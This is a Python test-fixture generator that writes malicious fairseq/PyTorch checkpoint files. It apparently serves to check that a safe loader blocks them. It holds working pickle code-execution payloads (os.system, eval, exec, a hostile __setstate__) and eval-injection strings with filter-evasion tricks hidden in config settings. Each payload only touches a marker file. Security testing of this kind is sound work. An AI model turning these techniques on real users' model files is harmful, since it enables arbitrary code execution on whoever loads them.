"""Checkpoints that try to run code when they are read: what a stranger may send."""

import argparse
import builtins
import contextlib
import copy
import os
import pickle
import sys
import types
from collections.abc import Callable, Iterator
from pathlib import Path

import torch
from fairseq import checkpoint_utils
from fairseq.models import fconv_lm
from omegaconf import OmegaConf

MODULE = "attacker"  # importable where the checkpoint is made, and, in the worst case, where it is read


class Call:
    """Unpickles as what ``function(*arguments)`` returns."""

    def __init__(self, function: Callable, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def payloads(marker: Path) -> dict[str, object]:
    """Objects that would write ``marker`` if the pickle that holds them were loaded by Python's own unpickler."""
    touch = f"touch '{marker}'"
    module = types.ModuleType(MODULE)
    exec(f"class Weights:\n    def __setstate__(self, state): open({str(marker)!r}, 'w')", module.__dict__)
    module.Weights.__module__ = MODULE
    sys.modules[MODULE] = module
    weights = module.Weights()
    weights.value = 1
    return {
        "os.system": Call(os.system, touch),
        "eval": Call(builtins.eval, f"open({str(marker)!r}, 'w')"),
        "exec": Call(builtins.exec, f"open({str(marker)!r}, 'w')"),
        "getattr": Call(getattr, Call(__import__, "os"), "system"),
        "class of a module": weights,
        "nested reduce": Call(map, os.system, [touch]),
        "torch.load": Call(torch.load, Call(os.system, touch)),
    }


def code(marker: Path) -> dict[str, str]:
    """Python that writes ``marker`` where fairseq evaluates it, among the names of its module ``fconv_lm``.

    The first calls in so many words; the next three have no call in their syntax tree; the others hide one.
    """
    command, opened = f"touch {marker}", f"open({str(marker)!r}, 'w')"
    found = {
        "call": f"{opened} and []",
        "subscript": f"[0 for FConvDecoder.__class_getitem__ in [utils.os.system]] + [FConvDecoder[{command!r}]]",
        "operator": f"[0 for utils.logging.Logger.__add__ in [utils.os.system]] + [utils.logger + {command!r}]",
        "format": f"[0 for utils.logging.Logger.__format__ in [utils.os.system]] + [f'{{utils.logger:{command}}}']",
        "walrus": f"[written := {opened}]",
        "generator": f"[*({opened} for _ in [0])]",
        "lambda": f"(lambda: {opened})() and []",
        "repeated": f"[(512, 10, 5)] * len([{opened}])",
        "value of a dictionary": f"{{'a': {opened}}}",
        "other letters": f"{opened} and []".replace("open", "\N{FULLWIDTH LATIN SMALL LETTER O}pen", 1),
        "blanks": f" \t {opened}  # [(512, 10, 5)] * 2",
        "form feed": f"\x0c{opened}",
        "broken lines": f"[\n{opened},\r\n(512, 3)]",
        "attribute": f"utils.os.system({command!r})",
        "builtins": f"[].__class__.__base__ and __builtins__['open']({str(marker)!r}, 'w')",
    }
    for depth in (20, 90, 180):  # Python's tokenizer takes brackets 200 deep
        found[f"brackets {depth} deep"] = "[" * depth + opened + "]" * depth
    for depth in (300, 800, 900, 950, 1500):  # about where one or the other of Python's passes gives up
        found[f"signs {depth} deep"] = "not " * depth + opened
        found[f"sums {depth} deep"] = f"[{opened}]" + " + []" * depth
    return found


def hidden(state: dict, payload: object) -> dict[str, object]:
    """Checkpoints with the payload in each place that fairseq reads."""
    found = {}
    for place, path in {
        "weights": ("model", "payload"),
        "optimizer": ("last_optimizer_state", "state", 0, "exp_avg"),
        "settings": ("cfg", "task", "data"),
        "meters": ("extra_state", "metrics", "train"),
        "task state": ("task_state", "labels"),
    }.items():
        found[place] = copy.deepcopy(state)
        inner = found[place]
        for key in path[:-1]:
            inner = inner[key]
        inner[path[-1]] = payload
    found["arguments"] = {**state, "args": argparse.Namespace(arch="roberta_base", data=payload)}
    found["all"] = payload
    return found


CARRIERS = {  # setting that fairseq passes to ``eval`` -> the model that does so, or its group of settings
    "decoder_layers": "fconv_lm",
    "decoder_attention": "fconv_lm",
    "encoder_layers": "fconv",
    "conv_feature_layers": "wav2vec2",
    "conv_aggregator_layers": "wav2vec",
    "character_filters": "transformer_lm",
    "adaptive_softmax_cutoff": "lightconv_lm",
    "wer_args": "criterion",
    "adam_betas": "optimizer",
}
GROUPS = {"criterion": "ctc", "optimizer": "adam"}
PLAIN = ("call", "subscript", "operator", "format")  # kinds of code that are tried in every setting and container


def carrying(state: dict, setting: str, value: object) -> dict:
    """A checkpoint in which a setting that fairseq evaluates has a value."""
    found, place = copy.deepcopy(state), CARRIERS[setting]
    if place in GROUPS:
        found["cfg"][place] = {"_name": GROUPS[place], setting: value}
    else:
        vars(found["cfg"]["model"]).update({"_name": place, "arch": place, setting: value})
    return found


def contained(state: dict, setting: str, value: str) -> dict[str, dict]:
    """The same in the other containers that a checkpoint may hold."""
    plain = carrying(state, setting, value)
    model = vars(plain["cfg"]["model"])
    of_dictionaries = {**plain, "cfg": {**plain["cfg"], "model": model}}
    nested = {**plain, "cfg": {**plain["cfg"], "model": {model["_name"]: {**model, "_name": None, "arch": None}}}}
    arguments = argparse.Namespace(**{**model, "task": "masked_lm", "criterion": "masked_lm"})
    return {
        "dictionaries": of_dictionaries,
        "configuration": {**plain, "cfg": OmegaConf.create(of_dictionaries["cfg"])},
        "named folder": nested,
        "arguments": {**plain, "cfg": None, "args": arguments},
        "both": {**state, "args": arguments},
    }


def interpolated(state: dict, marker: Path) -> dict[str, dict]:
    """Two halves that parse as nothing, and a reference that joins them."""
    found = {}
    for kind, text in code(marker).items():
        if " deep" in kind:
            continue
        half = len(text) // 2
        for arch in ("fconv_lm", "roberta_base"):
            crafted = copy.deepcopy(state)
            cfg = crafted["cfg"]
            cfg["common"].update(first=text[:half], second=text[half:])
            cfg["model"] = {**vars(cfg["model"]), "_name": arch, "arch": arch}
            cfg["model"]["decoder_layers"] = "${common.first}${common.second}"
            found[f"{kind} joined for {arch}"] = crafted
    for name, text in {
        "of the environment": "${oc.env:HOME}",
        "that is decoded": "${oc.decode:'[1]'}",
        "in a list": ["a", "${common.seed}"],
        "in a name": {"${common.seed}": 1},
        "that is escaped": "\\${common.seed}",
        "of the whole": {"_name": "${common.seed}"},
    }.items():
        crafted = copy.deepcopy(state)
        crafted["cfg"]["task"]["data"] = text
        found[f"reference {name}"] = crafted
        arguments = argparse.Namespace(**{**vars(state["cfg"]["model"]), "data": text})
        found[f"reference {name} of arguments"] = {**state, "cfg": None, "args": arguments}
    return found


def evaluated(state: dict, marker: Path) -> dict[str, dict]:
    """Checkpoints of plain strings, with code in settings that fairseq passes to ``eval``."""
    found = {}
    for kind, text in code(marker).items():
        for setting in CARRIERS if kind in PLAIN else ("decoder_layers",):
            found[f"{kind} in {setting} of {CARRIERS[setting]}"] = carrying(state, setting, text)
    for kind in PLAIN:
        found[f"{kind} in bytes"] = carrying(state, "decoder_layers", code(marker)[kind].encode())
        for container, crafted in contained(state, "decoder_layers", code(marker)[kind]).items():
            found[f"{kind} in {container}"] = crafted
    deep: list = []
    for _ in range(200):
        deep = [deep]
    found["settings 200 deep"] = carrying(state, "adam_betas", deep)
    found["settings as text"] = {**state, "cfg": "{model: {_name: fconv_lm}}"}
    return {**found, **interpolated(state, marker)}


def careless(*paths: str) -> None:
    """Read checkpoints with what fairseq has without the plugin, and print those after which their marker is there.

    For a process of its own: the code in them changes classes. The marker is ``marker`` in the folder above.
    """
    import fairseq_align  # noqa: F401  the task of the checkpoints

    load = checkpoint_utils.load_checkpoint_to_cpu.__wrapped__
    del fconv_lm.eval
    for path in map(Path, paths):
        marker = path.parent.parent / "marker"
        with contextlib.suppress(Exception):  # the model that it asks for cannot be built, after its code has run
            checkpoint_utils.load_model_ensemble_and_task([str(path)], state=load(str(path)))
        if marker.exists():
            print(path.stem)
            marker.unlink()


def files(state: dict, folder: Path, marker: Path) -> Iterator[Path]:
    """The files of all attacks, each written when it is asked for."""
    folder.mkdir(parents=True, exist_ok=True)

    def path_of(name: str) -> Path:
        return folder / f"{name.replace(' ', '-')}.pt"

    def saved(name: str, crafted: object, **options) -> Path:
        torch.save(crafted, path_of(name), **options)
        return path_of(name)

    for name, payload in payloads(marker).items():
        for place, crafted in hidden(state, payload).items():
            yield saved(f"{name} in {place}", crafted)
        raw = path_of(f"{name} raw")
        raw.write_bytes(pickle.dumps(payload))
        yield raw
        yield saved(f"{name} legacy", {**state, "task_state": payload}, _use_new_zipfile_serialization=False)
    for name, crafted in evaluated(state, marker).items():
        yield saved(f"evaluated {name}", crafted)
    script = path_of("TorchScript")
    torch.jit.script(torch.nn.Linear(1, 1)).save(script)
    yield script
